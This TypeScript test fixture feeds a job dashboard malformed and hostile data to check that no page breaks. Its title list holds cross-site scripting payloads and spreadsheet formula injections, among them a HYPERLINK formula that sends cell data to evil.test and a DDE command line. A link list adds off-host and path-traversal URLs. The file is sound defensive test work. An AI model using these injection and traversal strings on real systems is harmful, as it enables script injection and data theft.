/**
 * All odd data that a real Vault may send or that its documents don't rule out. Nothing here may
 * break a page: each row is shown, or counted as unreadable.
 */
import { day, hour, minute } from '../clock.ts';
import type { World } from '../world/world.ts';
import type { WorldContent } from './content.ts';
import { quiet } from './quiet.ts';

/** Titles that attack a page, a file or a reader: people can type any text as a title. */
export const hostileTitles: readonly string[] = [
  '<img src=x onerror="document.title=\'taken over\'">',
  '<script>document.title="taken over"</script>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '=HYPERLINK("https://evil.test/?"&A1,"Click me")',
  '=1+1',
  '+1',
  '-2+3',
  '@x',
  '\t=1+1',
  '\r=1+1',
  "  =cmd|' /C calc'!A0",
  'Two\nlines',
  'Comma, "quotes"; semicolon',
  'Bell \u0007 and null \u0000 and escape \u001b[31m',
  'Right to left \u202egnp.exe\u202c override',
  'Isolate \u2067abc\u2069 and zero\u200bwidth',
  'Combining Z\u0351\u0343\u0346a\u0335l\u0334g\u0337o\u0338',
  'Lone surrogate \ud83d here',
  'Emoji \u{1f469}\u200d\u{1f52c} and 日本語 and العربية',
  '{{7*7}} ${7*7} %s %n',
  '__proto__',
  'null',
  `Very long title ${'of a job that goes on and on '.repeat(13)}`.slice(0, 399) + '.',
  'W'.repeat(400),
];

/** Each replaces fields of a row in both lists. */
const overridesByTitle: Record<string, Record<string, unknown>> = {
  'Unknown status': { status: 'PARTIALLY_COMPLETE' },
  'Unknown status in lower case': { status: 'on hold' },
  'Empty status': { status: '' },
  'No status': { status: undefined },
  'Status is a number': { status: 7 },
  'No dates': {
    created_date: undefined,
    modified_date: undefined,
    run_start_date: undefined,
    run_end_date: undefined,
  },
  'Null dates': {
    created_date: null,
    modified_date: null,
    run_start_date: null,
    run_end_date: null,
  },
  'Unreadable dates': { created_date: 'yesterday', run_start_date: '2026-13-45T99:99:99.000Z' },
  'Dates without milliseconds': { created_date: '2026-03-10T08:00:00Z' },
  'Dates with an offset': { created_date: '2026-03-10T08:00:00.000+01:00' },
  'Extra fields': { priority__v: 3, owner: { id: 5, groups: ['a', 'b'] }, flags: null },
  'No creator': { created_by: undefined, modified_by: null },
  'Creator is text': { created_by: '44533', modified_by: '1' },
  'Title is null': { title: null },
  'Title is absent': { title: undefined },
  'Title is empty': { title: '' },
  'Title is blank': { title: '   ' },
  'Title is a number': { title: 42 },
};

function populate(world: World) {
  for (const [title, overrides] of Object.entries(overridesByTitle)) {
    world.running({ title, overrides, forMs: 9 * minute });
    world.finished({ title, overrides, agoMs: 2 * hour });
  }
  for (const title of hostileTitles) {
    world.scheduled({ title, inMs: 3 * hour });
    world.finished({ title, status: 'ERRORS_ENCOUNTERED', agoMs: 3 * hour });
  }
  unreadable(world);
  links(world);
  ids(world);
  moments(world);
  world.running({ title: 'Job of 5,000 tasks', tasks: 5_000, forMs: 4 * minute, endsInMs: hour });
  world.finished({ title: 'Job of 130 tasks', tasks: 130, status: 'ERRORS_ENCOUNTERED' });
  world.finished({ title: 'Creator long gone', createdBy: 999_999 });
  for (let nth = 1; nth <= 230; nth += 1) {
    world.scheduled({ title: `Nightly Sweep ${nth}`, inMs: nth * 5 * minute });
  }
}

/** Rows that can't be read. */
function unreadable(world: World) {
  for (const overrides of [null, { job_id: undefined }, { job_id: null }, { job_id: '' }]) {
    world.running({ title: 'Unreadable', overrides });
    world.finished({ title: 'Unreadable', overrides, agoMs: 4 * hour });
  }
}

/** Links that a dashboard may follow, and every kind that it must not. */
function links(world: World) {
  world.finished({ title: 'Export of 50 MB', method: 'POST', fileBytes: 50 * 1024 * 1024 });
  world.finished({ title: 'Controlled Copy', method: 'POST' });
  const file = '/api/v25.2/services/file_staging/items/content/u1/export-1.csv';
  world.finished({
    title: 'Hostile links',
    method: 'POST',
    links: [
      ...hostileHrefs(world.host, file).map((href) => ({ rel: 'content', href, method: 'GET' })),
      { rel: 'content', href: file, method: 'POST' },
      { rel: 'nowhere' },
    ],
  });
}

/** Another host or scheme, a path that resolves to another one, and paths outside of the API. */
function hostileHrefs(host: string, file: string): string[] {
  return [
    `https://evil.example${file}`,
    `http://${host}${file}`,
    `//evil.example${file}`,
    `https://${host}@evil.example${file}`,
    `https://${host}:444${file}`,
    'javascript:alert(1)',
    '/api/../ui/secret',
    '/api/v25.2/%2e%2e/%2e%2e/ui/secret',
    '/api/v25.2/..%2f..%2fui%2fsecret',
    '/api/v25.2/..\\..\\ui',
    '/api/v25.2/%252e%252e/ui',
    '/ui/#permalink=1',
    '/ui/secret',
    '/api/v25.2/services/jobs/start_now/1',
  ];
}

function ids(world: World) {
  world.running({ title: 'Id is text', id: '88001', overrides: { job_id: '88001' } });
  world.finished({ title: 'Id is text', id: '88002', overrides: { job_id: '88002' } });
  world.running({ title: 'Id is no number', id: 'JOB-7-A' });
  world.finished({ title: 'Id past 2^53', id: '9007199254740993', agoMs: 5 * hour });
  world.finished({ title: 'Id past 2^53', id: '9007199254740992', agoMs: 5 * hour });
}

function moments(world: World) {
  const ahead = world.formatDate(world.now() + 6 * hour);
  world.running({ title: 'Runs, starts in the future', overrides: { run_start_date: ahead } });
  world.finished({
    title: 'Ended before it started',
    overrides: { run_start_date: world.formatDate(world.now() - hour / 2) },
    agoMs: hour,
  });
  world.finished({ title: 'Took forty days', agoMs: day, tookMs: 40 * day });
  world.finished({ title: 'Took no time', agoMs: hour, tookMs: 0, waitedMs: 0 });
  world.finished({ title: 'In both lists', agoMs: minute, inBothLists: true });
  for (const status of ['FAILED_TO_RUN', 'MISSED_SCHEDULE', 'CANCELLED'] as const) {
    world.finished({ title: 'Never ran', status, agoMs: 6 * hour });
    // Nothing but the plan, after the last change of the row (docs/vault-api.md §1a).
    world.finished({
      title: 'Never ran, only planned',
      status,
      agoMs: 6 * hour,
      overrides: {
        run_start_date: world.formatDate(world.now() - 6 * hour),
        run_end_date: undefined,
        modified_date: world.formatDate(world.now() - 30 * hour),
      },
    });
  }
}

export const odd: WorldContent = {
  series: quiet.series,
  switches: { neverRan: 'absent', nonSdkTasks: 'failure' },
  populate,
};
